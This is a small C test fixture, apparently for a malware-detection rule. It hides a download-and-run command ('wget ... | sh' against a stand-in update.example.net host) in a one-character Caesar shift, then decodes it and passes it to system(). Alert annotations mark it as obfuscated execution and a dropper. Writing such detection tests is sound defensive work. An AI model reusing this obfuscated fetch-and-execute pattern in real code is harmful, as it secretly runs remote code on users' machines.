/*
 * behavior.obfuscated-execution: a shifted ("Caesar") string. Every
 * character of a download-and-run command is stored one higher than the real
 * one and decoded by subtracting 1 before system() runs it.
 */
#include <stdlib.h>
#include <string.h>

static const char stage[] = "xhfu!.r!.P.!iuuq;00vqebuf/fybnqmf/ofu0j/ti!}!ti";

int main(void)
{
    char cmd[sizeof(stage)];
    size_t n = strlen(stage);

    for (size_t i = 0; i < n; i++)
        cmd[i] = stage[i] - 1;
    cmd[n] = '\0';
    return system(cmd); // $ Alert[behavior.obfuscated-execution] Alert[behavior.dropper]
}
